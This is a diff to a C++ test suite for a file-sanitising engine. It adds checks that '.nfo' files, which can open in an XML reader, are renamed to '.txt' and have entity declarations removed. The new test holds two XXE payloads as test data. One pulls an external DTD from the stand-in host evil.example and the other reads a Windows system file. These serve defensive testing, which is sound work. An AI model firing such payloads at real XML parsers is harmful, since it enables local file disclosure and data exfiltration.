@@ -111,6 +111,19 @@ TEST_CASE("red team return, class 1: a delivered file's name opens it as the typ
     REQUIRE_FALSE(r.blocked());
     CHECK(r.output_filename == expect);
   }
+  // .nfo opens in System Information (msinfo32, an XML reader that resolved external entities):
+  // no longer on the text list, and a DTD anywhere in the first KB routes the text to the HTML
+  // rules (converted to text). Both got through before.
+  for (const char* xxe : {"<!DOCTYPE x [<!ENTITY % x SYSTEM \"http://evil.example/x.dtd\"> %x;]><x/>\n",
+                          "notes\n  <!ENTITY x SYSTEM \"file:///c:/windows/win.ini\">\n"}) {
+    INFO(xxe);
+    ProcessResult r = engine().processFile(xxe, "release.nfo", "N5");
+    REQUIRE_FALSE(r.blocked());
+    CHECK(extensionOf(r.output_filename) == "txt");
+    CHECK(r.output.find("<!ENTITY") == std::string::npos);
+  }
+  ProcessResult nfo = engine().processFile("RELEASE NOTES\r\nversion 2\r\n", "readme.nfo", "N6");
+  CHECK(nfo.output_filename == "readme.nfo.txt");
   // Already handled before (the class's table): kept text under other extensions gets .txt, a
   // ZIP named .html is repacked as .zip, trailing dots and spaces do not hide the extension.
   struct Case {
